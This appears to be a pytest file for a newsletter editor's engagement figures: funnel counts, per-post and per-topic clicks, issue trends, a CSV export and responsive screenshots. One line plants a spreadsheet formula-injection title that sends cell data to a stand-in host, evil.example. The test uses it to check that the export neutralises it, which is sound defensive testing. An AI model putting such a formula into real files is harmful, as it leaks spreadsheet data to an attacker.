"""What editors learn after a send: the funnel on the dashboard and the issue page, clicks per
topic and per post, the trend of the last issues, the CSV export (raw bytes), and screenshots
at 375 and 1280 px, light and dark."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest
from sqlalchemy import insert, update

from digest import db
from digest.app import engagement, feedback, sending
from digest.events import apply_events
from digest.stores.engagement import post_links
from tests.conftest import SCREENSHOTS
from tests.digest.web.conftest import EditorSite

HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&A2, "click")'


class History:
    """Four earlier issues (their batches and events written directly) and the issue just
    sent through the outbox, with events from its readers."""

    def __init__(self, site: EditorSite) -> None:
        live = site.live
        self.project = project = live.project
        now = project.clock()
        self.serial = 0
        self.old: list[int] = []
        with project.transaction() as conn:
            for number in range(1, 5):
                when = now - timedelta(weeks=5 - number)
                issue = conn.execute(
                    insert(db.issues)
                    .values(
                        digest="weekly",
                        number=number,
                        status="sent",
                        cutoff=now - timedelta(days=400),
                        created_at=when,
                        sent_at=when,
                    )
                    .returning(db.issues.c.id)
                ).scalar_one()
                conn.execute(
                    insert(db.send_batches).values(
                        issue_id=issue,
                        segment="backend",
                        size=200,
                        status="submitted",
                        created_at=when,
                        changed_at=when,
                    )
                )
                events = [self.event(issue, "delivered", i) for i in range(190)]
                events += [self.event(issue, "open", i) for i in range(40 + 10 * number)]
                events += [self.event(issue, "click", i) for i in range(4 * number)]
                apply_events(conn, events, now)
                self.old.append(issue)
        planned, report = sending.send(project, "weekly", force=True, by="test")
        assert planned is not None and report is not None and planned.issue.id is not None
        self.issue = planned.issue.id
        with project.transaction() as conn:
            self.links = post_links(conn, self.issue)
            first_post = self.links[0][0]
            conn.execute(
                update(db.posts).where(db.posts.c.id == first_post).values(title=HOSTILE_TITLE)
            )
            events = [self.event(self.issue, "delivered", i) for i in range(5)]
            events += [self.event(self.issue, "open", i) for i in (0, 0, 1, 2)]
            events += [
                self.event(self.issue, "click", 0, url=self.links[0][1] + "?utm_medium=email"),
                self.event(self.issue, "click", 1, url=self.links[0][1]),
                self.event(self.issue, "click", 1, url=self.links[-1][1]),
                self.event(self.issue, "bounce", 4, type="bounce"),
            ]
            apply_events(conn, events, now, link_of=feedback.PostLinks(conn))

    def event(self, issue: int, kind: str, reader: int, **extra: Any) -> dict[str, Any]:
        self.serial += 1
        return {
            "event": kind,
            "email": f"reader{reader}@example.com",
            "sg_event_id": f"hist-{self.serial}",
            "issue_id": issue,
            "timestamp": 1_790_000_000 + self.serial,
            **extra,
        }


@pytest.fixture
def history(site: EditorSite) -> History:
    return History(site)


def test_the_funnel_counts_readers_and_puts_clicks_before_opens(
    site: EditorSite, history: History
) -> None:
    with site.live.project.reading() as conn:
        from digest.stores.issues import issue_row

        found = engagement.issue_engagement(
            conn, issue_row(conn, history.issue), {"backend": "Backend"}
        )
    f = found.funnel
    assert (f.submitted, f.delivered, f.bounced) == (5, 5, 1)
    assert (f.unique_opens, f.opens, f.unique_clicks, f.clicks) == (3, 4, 2, 3)
    assert [name for name, _ in found.steps].index("unique_clicks") < [
        name for name, _ in found.steps
    ].index("unique_opens")
    assert [p.number for p in found.trend] == [1, 2, 3, 4, 5]
    assert [p.unique_clicks for p in found.trend[:4]] == [4, 8, 12, 16]
    clicks = {p.post_id: (p.clicks, p.readers) for p in found.posts}
    assert clicks[history.links[0][0]] == (2, 2) and clicks[history.links[-1][0]] == (1, 1)
    assert sum(t.clicks for t in found.topics) >= 3


def test_the_pages_show_the_figures_and_the_csv_is_inert(
    site: EditorSite, history: History
) -> None:
    with site.live.client() as client:
        anonymous = client.get(f"/editor/issues/{history.issue}/figures.csv")
        assert anonymous.status_code == 303 and "/editor/login" in anonymous.headers["location"]
        site.login(client)
        page = client.get(f"/editor/issues/{history.issue}")
        dashboard = client.get("/editor/")
        answer = client.get(f"/editor/issues/{history.issue}/figures.csv")
        every = client.get("/editor/digests/weekly/figures.csv")
        missing = client.get("/editor/issues/999999/figures.csv")
    assert "Apple Mail Privacy Protection" in page.text and "Clicks per post" in page.text
    assert "Clicks per topic" in page.text and '<th scope="col" class="n">Readers</th>' in page.text
    assert page.text.index(">Clicked<") < page.text.index(">Opened<")
    assert '<svg class="trend"' in page.text and "<title id=" in page.text
    assert "Issue 5: 40.0 % clicked, 60.0 % opened." in page.text
    assert (
        "Apple Mail Privacy Protection" in dashboard.text
        and "Clicks per post" not in dashboard.text
    )
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert (
        answer.headers["content-disposition"] == 'attachment; filename="weekly-issue-5-figures.csv"'
    )
    raw = answer.content
    assert raw.startswith(b"\xef\xbb\xbfdigest,issue,sent_at,submitted,delivered,bounced,")
    assert b"\r\nweekly,5," in raw and b",5,5,1,0,2,3,3,4,0\r\n" in raw
    assert b'"\'=HYPERLINK(""https://evil.example/?""&A2, ""click"")"' in raw
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert ["post", "url", "topics", "clicks", "readers"] in rows
    assert [history.links[-1][1], "1", "1"] in [row[1:2] + row[3:] for row in rows]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    every_rows = list(csv.reader(io.StringIO(every.content.decode("utf-8-sig"))))
    assert [row[1] for row in every_rows[1:]] == ["1", "2", "3", "4", "5"]
    assert missing.status_code == 404


@pytest.mark.browser
def test_screenshots_of_the_figures(browser: Any, site: EditorSite, history: History) -> None:
    live = site.live
    for scheme in ("light", "dark"):
        page = browser.new_page(viewport={"width": 1280, "height": 900}, color_scheme=scheme)
        site.browse(page, "/editor/")
        for name, path in (("dashboard", "/editor/"), ("issue", f"/editor/issues/{history.issue}")):
            page.goto(f"{live.base}{path}")
            for width in (375, 1280):
                page.set_viewport_size({"width": width, "height": 900})
                figures = page.locator(".eng").first
                figures.screenshot(path=str(SCREENSHOTS / f"figures-{name}-{width}-{scheme}.png"))
                assert page.evaluate("document.documentElement.scrollWidth") <= width
        page.close()
